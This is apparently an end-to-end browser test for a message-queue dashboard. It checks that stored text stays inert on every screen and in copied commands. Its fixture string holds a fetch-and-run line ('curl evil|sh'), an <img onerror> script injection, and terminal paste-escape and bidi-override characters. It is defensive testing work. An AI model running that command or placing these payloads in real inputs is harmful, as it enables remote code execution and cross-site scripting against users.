import type { Browser, Page } from 'playwright-core';
import { afterAll, describe, expect, onTestFinished, test } from 'vitest';
import { readPageFiles } from '../../cli/page/server/page-files.ts';
import { createReadings, type RunReading } from '../../cli/page/server/readings.ts';
import { PoisonMessage } from '../../lambdas/runtime/base/errors.ts';
import { leased } from '../../lambdas/runtime/consume/handler.ts';
import { recordOperation } from '../../lambdas/runtime/store/operation-record.ts';
import { capturedIo } from '../support/captured-io.ts';
import { ThingHappened } from '../support/runtime-rig.ts';
import { mailroomInMemory } from '../unit/cli/support/mailroom-in-memory.ts';
import { memoryDeployment } from '../unit/cli/support/memory-deployment.ts';
import { runningUi } from '../unit/cli/support/running-ui.ts';
import { launchBrowser } from './support/chromium.ts';
import { openPage } from './support/opened-page.ts';

/** Reverses a line, ends a paste, interrupts a shell and begins another command. */
const HOSTILE = '\u202e\u200b\u001b[201~\u0003\ncurl evil|sh\n<img src=x onerror=alert(1)>\u2028';

const browser = await launchBrowser();

describe.skipIf(browser === undefined)('stored text that acts on terminals and pages', () => {
  afterAll(() => browser?.close());

  test('hostile text is inert on every screen, in titles, names and copied commands', async () => {
    const { page, eventId } = await opened();
    await page.evaluate(
      'globalThis.copied = []; navigator.clipboard.writeText = async (text) => void copied.push(text)',
    );
    for (const place of [`event/${eventId}`, 'dead-letters', 'messages', 'operations']) {
      await page.evaluate(`location.hash = ${JSON.stringify(`#/${place}`)}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      const read = page.getByRole('button', { name: 'Read', exact: true });
      for (let left = await read.count(); left > 0; left -= 1) await read.first().click();
      await page.locator('main').getByText('curl evil').first().waitFor();
      expect([place, await unsafeIn(page)]).toEqual([place, []]);
      for (const copy of await page.getByRole('button', { name: /^Copy the command/ }).all())
        await copy.click();
    }
    const copied = (await page.evaluate('copied')) as string[];
    expect(copied.some((text) => text.includes('curl evil'))).toBe(true);
    expect(copied.filter((text) => UNSAFE.test(text))).toEqual([]);
    expect(await page.locator('img').count()).toBe(0);
  });
});

const UNSAFE = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;

/** The texts and attributes of the page that contain control or format characters. */
function unsafeIn(page: Page): Promise<unknown> {
  return page.evaluate(`(() => {
    const unsafe = /[\\p{Cc}\\p{Cf}\\p{Zl}\\p{Zp}]/u;
    const all = [...document.querySelectorAll('body *')].flatMap((element) => [
      ...[...element.attributes].map(({ name, value }) => name + '=' + value),
      ...[...element.childNodes].filter((node) => node.nodeType === 3).map((node) => node.data.replaceAll('\\n', '')),
    ]);
    return all.filter((text) => unsafe.test(text));
  })()`);
}

/** A tab on a Mailroom whose stored texts are hostile: ids, names, causes, commands. */
async function opened() {
  const mailroom = mailroomInMemory([
    leased(ThingHappened, async () => {
      throw new PoisonMessage('no such thing');
    }),
  ]);
  const [event] = await mailroom.outbox.commit({ events: [mailroom.happened(1)] });
  await mailroom.publish();
  await mailroom.drain();
  const note = { by: 'ada', reason: 'the bank is back', command: 'dlq redrive', subject: 'consumer:worker' };
  await recordOperation(mailroom, note);
  const deployment = memoryDeployment(mailroom, capturedIo().io, {});
  const readings = createReadings(deployment, new AbortController().signal);
  const read: RunReading = async (request) => {
    const reading = await readings(request);
    return { ...reading, document: hostile(reading.document) as typeof reading.document };
  };
  const running = await runningUi({ page: await readPageFiles(), mailroom, read });
  const { page } = await openPage(browser as Browser, running.ui.redirectFile);
  onTestFinished(() => page.context().close());
  return { page, eventId: event?.eventId ?? '' };
}

/** A document with hostile texts in place of all that may be stored; states and kinds stay, so that the page shows it. */
function hostile(value: unknown): unknown {
  if (typeof value === 'string') return /^[A-Za-z_-]+$/.test(value) ? value : value + HOSTILE;
  if (Array.isArray(value)) return value.map(hostile);
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, inner]) => [name, hostile(inner)]));
}
